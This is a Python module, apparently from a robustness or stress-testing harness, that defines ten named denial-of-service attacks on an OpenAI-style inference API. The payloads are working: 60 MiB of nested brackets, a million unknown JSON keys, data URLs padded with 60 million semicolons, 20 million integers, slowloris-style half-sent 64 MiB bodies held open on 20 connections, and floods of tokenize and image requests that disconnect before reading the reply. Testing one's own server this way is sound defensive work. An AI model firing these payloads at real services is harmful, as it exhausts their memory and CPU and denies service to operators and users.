"""Attacks with request bodies that are large, or costly to parse, to check or to explain."""

from __future__ import annotations

import asyncio

from wire import Battle, chat, request

from catalogue.base import Attack

MIB = 1 << 20
AT_ONCE = 4


async def repeat(battle: Battle) -> None:
    """Send the same body from a few connections again and again."""
    await battle.crowd(AT_ONCE, lambda _: battle.ask(battle.payload))


def _image_values() -> bytes:
    return request("/v1/images", b'{"url": "x", "images": [' + b"0," * (11 * MIB // 2) + b"0]}")


def _nested() -> bytes:
    half = 30 * MIB
    return request("/v1/chat/completions", b'{"messages": ' + b"[" * half + b"]" * half + b"}")


def _shallow() -> bytes:
    return request("/v1/chat/completions", b'{"messages": [' + b"[]," * (20 * MIB) + b"[]]}")


def _semicolons() -> bytes:
    url = "data:image/png" + ";" * (60 * MIB) + "base64,AAAA"
    return chat([{"type": "image_url", "image_url": {"url": url}}])


def _integers() -> bytes:
    numbers = b"1," * (10 * MIB) + b"1"
    return request("/v1/completions", b'{"prompt": [' + numbers + b'], "stop_token_ids": [' + numbers + b"]}")


def _escapes() -> bytes:
    text = b'\\"' * (31 * MIB)
    return request("/v1/chat/completions", b'{"messages": [{"role": "user", "content": "' + text + b'"}]}')


def _keys() -> bytes:
    keys = b",".join(b'"k%d": 0' % number for number in range(1_000_000))
    return request("/v1/chat/completions", b"{" + keys + b"}")


def _wrong_items() -> bytes:
    return request("/v1/chat/completions", b'{"messages": [' + b'{"role": 1},' * (4 * MIB) + b"{}]}")


async def half_bodies(battle: Battle) -> None:
    """Send 63 of 64 MiB on 20 connections, then nothing."""
    head = request("/v1/chat/completions", headers=f"Content-Length: {64 * MIB}\r\n")
    await battle.hold(20, head + battle.payload, at_once=20)


async def floods(battle: Battle) -> None:
    """Ask for tokens of long texts and store pictures, and leave before the answer."""
    from bombs import data_url
    from innocent import picture

    text = request("/tokenize", b'{"prompt": "' + b"lorem ipsum " * 80_000 + b'"}')
    tall = data_url(battle.payload, "image/png")

    async def act(number: int) -> None:
        if number % 3 == 0:
            await battle.ask(text, leave=True)
        elif number % 3 == 1:
            body = f'{{"url": "{picture(number)}", "encode": false}}'
            await battle.ask(request("/v1/images", body.encode()), leave=True)
        else:
            await battle.ask(
                request("/v1/images", f'{{"url": "{tall}", "encode": false}}'.encode()), leave=True
            )
        await asyncio.sleep(0.01)

    await battle.crowd(16, act)


def _black() -> bytes:
    from bombs import black_png

    return black_png(0, 4000, 4000)


ATTACKS = [
    Attack(
        "image-values",
        "key",
        "4 clients send 11 MiB of numbers in an unknown field to /v1/images",
        repeat,
        _image_values,
    ),
    Attack("nested-lists", "key", "4 clients send 60 MiB of opening and closing brackets", repeat, _nested),
    Attack("empty-lists", "key", "4 clients send 20 million empty lists as messages", repeat, _shallow),
    Attack(
        "semicolons",
        "key",
        "4 clients send a data URL whose head has 60 million semicolons",
        repeat,
        _semicolons,
    ),
    Attack(
        "integers", "key", "4 clients send 20 million numbers as prompt and stop_token_ids", repeat, _integers
    ),
    Attack("escapes", "key", "4 clients send a text of 31 million escaped quotes", repeat, _escapes),
    Attack("unknown-keys", "key", "4 clients send an object with a million unknown keys", repeat, _keys),
    Attack(
        "wrong-items", "key", "4 clients send 4 million messages that are all wrong", repeat, _wrong_items
    ),
    Attack(
        "half-bodies",
        "key",
        "20 clients send 63 MiB of a body of 64 MiB and stop",
        half_bodies,
        lambda: b'{"messages": "' + b"a" * (63 * MIB),
    ),
    Attack(
        "floods", "key", "16 clients ask /tokenize and /v1/images without reading the answers", floods, _black
    ),
]
